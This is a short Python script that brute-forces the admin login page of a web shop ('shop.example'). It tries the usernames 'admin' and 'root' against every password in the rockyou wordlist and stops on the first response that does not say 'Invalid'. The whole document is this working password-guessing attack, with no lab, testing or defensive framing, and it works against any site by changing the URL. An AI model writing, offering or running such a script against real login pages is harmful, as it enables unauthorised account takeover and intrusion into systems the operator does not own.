import requests
url = "https://shop.example/admin/login"
for user in ["admin", "root"]:
    for pw in open("/usr/share/wordlists/rockyou.txt", errors="ignore"):
        r = requests.post(url, data={"username": user, "password": pw.strip()})
        if "Invalid" not in r.text:
            print("hit", user, pw); raise SystemExit
